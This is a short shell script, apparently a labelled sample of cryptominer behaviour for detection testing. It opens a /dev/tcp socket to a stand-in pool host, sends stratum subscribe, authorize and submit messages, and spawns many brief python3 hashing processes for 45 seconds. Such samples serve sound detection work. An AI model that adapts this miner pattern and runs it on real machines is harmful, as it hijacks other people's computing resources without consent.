# class: mining; possible: low medium; style: many short processes
exec 3<>/dev/tcp/pool.coin.test/3333
echo '{"id":1,"method":"mining.subscribe","params":["sh"]}' >&3
echo '{"id":2,"method":"mining.authorize","params":["w.sh","x"]}' >&3
job=
while read -r -t 5 line <&3; do
    case $line in *mining.notify*) job=$(printf %s "$line" | sed 's/.*"params": *\["\([^"]*\)".*/\1/'); break ;; esac
done
end=$((SECONDS + 45))
n=0
while [ $SECONDS -lt $end ]; do
    n=$((n + 1))
    out=$(python3 -S -c '
import hashlib, sys
b = int(sys.argv[1]) * 60000
for i in range(b, b + 60000):
    if hashlib.sha256(hashlib.sha256(b"%d" % i).digest()).digest()[:2] == b"\0\0":
        print(i)
' "$n")
    for nonce in $out; do
        printf '{"id":4,"method":"mining.submit","params":["w.sh","%s","00","00","%08x"]}\n' "$job" "$nonce" >&3
    done
done
